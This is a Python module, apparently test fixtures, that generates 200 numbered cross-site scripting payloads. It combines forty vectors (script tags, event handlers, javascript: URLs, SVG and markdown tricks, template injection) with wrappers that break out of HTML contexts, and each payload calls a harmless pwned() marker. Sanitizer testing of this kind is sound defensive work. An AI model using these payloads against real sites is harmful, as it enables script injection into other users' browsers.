"""Two hundred ways of getting a browser to call `pwned()`, each told apart by its number."""

from __future__ import annotations

from collections.abc import Sequence

_BASES = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</ScRiPt >",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src=x:x onerror\n=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=&#112;wned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<math><a href=javascript:pwned()>x</a></math>",
    "<iframe src='javascript:pwned()'></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data='javascript:pwned()'></object>",
    "<embed src='javascript:pwned()'>",
    "<a href='javascript:pwned()'>看</a>",
    "<a href='jAvA\tsCrIpT:pwned()'>看</a>",
    "[看](javascript:pwned())",
    '![图](x" onerror="pwned())',
    "[x]: javascript:pwned()\n[x]",
    "<javascript:pwned()>",
    "data:text/html,<script>pwned()</script>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=pwned()>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<form action=javascript:pwned()><button autofocus>x</button></form>",
    "<base href='javascript:pwned()//'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "&lt;img src=x onerror=pwned()&gt;",
    "${pwned()}{{constructor.constructor('pwned()')()}}",
)
_AROUND = ("{}", "\"'>{}", "</title></textarea></script>{}", "<!--{}-->", "]]>{}\u2028")

SCRIPTS = tuple(
    around.format(base).replace("pwned()", f"pwned({number})")
    for number, (base, around) in enumerate((base, around) for base in _BASES for around in _AROUND)
)


PLAIN = SCRIPTS[:: len(_AROUND)]
"""The forty without anything around them, for what takes long to be asked for."""


def packed(most: int, scripts: Sequence[str] = SCRIPTS) -> list[str]:
    """All of them in as few texts of at most `most` characters as can be."""
    texts = [""]
    for script in scripts:
        if len(texts[-1]) + len(script) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {script}".strip()
    return texts
